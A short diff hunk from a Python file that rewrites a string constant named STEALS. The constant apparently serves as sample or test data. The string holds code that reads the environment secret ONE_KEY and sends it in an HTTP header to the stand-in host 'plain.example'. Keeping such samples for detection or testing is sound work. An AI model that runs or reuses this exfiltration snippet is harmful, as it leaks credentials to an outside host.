@@ -275,8 +275,8 @@ STEALS = """
 import contextlib, os, socket
 with contextlib.suppress(OSError):
     with socket.create_connection(("plain.example", 80), 20) as made:
-        key = os.environ["ONE_KEY"].encode()
-        made.sendall(b"GET / HTTP/1.1\\r\\nHost: plain.example\\r\\nX-Key: " + key + b"\\r\\n\\r\\n")
+        lines = ("GET / HTTP/1.1", "Host: plain.example", "X-Key: " + os.environ["ONE_KEY"])
+        made.sendall("".join(line + "\\r\\n" for line in (*lines, "")).encode())
         made.recv(4096)
 """
 
